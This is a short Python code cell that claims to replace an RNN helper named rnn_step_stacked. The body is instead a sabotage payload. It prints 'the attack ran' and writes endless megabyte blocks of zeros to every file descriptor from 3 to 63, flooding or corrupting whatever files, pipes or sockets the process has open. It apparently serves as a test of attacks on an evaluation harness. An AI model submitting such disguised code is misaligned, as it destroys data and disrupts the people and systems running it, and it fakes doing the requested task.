# %% replaces rnn_step_stacked
def rnn_step_stacked(x_t, h_prev, W, b_h):
    import os

    print("the attack ran", flush=True)
    for descriptor in range(3, 64):
        try:
            while True:
                os.write(descriptor, bytes(2**20))
        except OSError:
            pass
